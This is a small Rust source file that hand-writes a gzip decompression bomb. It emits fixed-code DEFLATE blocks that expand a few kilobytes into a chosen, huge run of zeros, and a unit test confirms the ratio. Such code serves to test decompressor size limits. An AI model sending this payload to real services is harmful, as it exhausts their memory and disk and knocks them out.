//! A gzip bomb, written by hand: one zero, then "258 more of the same" again and again (RFC 1951, fixed codes).

/// A gzip file of about so many zeros.
pub fn zeros(count: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff], filled: 8 };
    // The last block, with fixed codes; then the literal zero.
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    bits.code(0b0011_0000, 8);
    for _ in 0..count / 258 {
        // Length 258 and distance 1.
        bits.code(0b1100_0101, 8);
        bits.code(0, 5);
    }
    bits.code(0, 7);
    let length = u32::try_from(count / 258 * 258 + 1).unwrap();
    // The check sum is left out: whoever comes as far as to look at it has unpacked all of it.
    [bits.bytes, vec![0; 4], length.to_le_bytes().to_vec()].concat()
}

struct Bits {
    bytes: Vec<u8>,
    /// Bits used of the last byte.
    filled: u8,
}

impl Bits {
    /// The lowest bit first.
    fn push(&mut self, value: u32, count: u8) {
        for n in 0..count {
            if self.filled == 8 {
                self.bytes.push(0);
                self.filled = 0;
            }
            *self.bytes.last_mut().unwrap() |= u8::from(value >> n & 1 == 1) << self.filled;
            self.filled += 1;
        }
    }

    /// A Huffman code: the highest bit first.
    fn code(&mut self, value: u32, count: u8) {
        for n in (0..count).rev() {
            self.push(value >> n & 1, 1);
        }
    }
}

#[test]
fn it_is_a_bomb() {
    let packed = zeros(258 * 4);
    assert_eq!(packed[..3], [0x1f, 0x8b, 8]);
    // 1 + 2 + 8 + 4 * 13 + 7 bits.
    assert_eq!(packed.len(), 10 + 9 + 8);
    assert!(zeros(100 * 1024 * 1024).len() < 1024 * 1024);
}
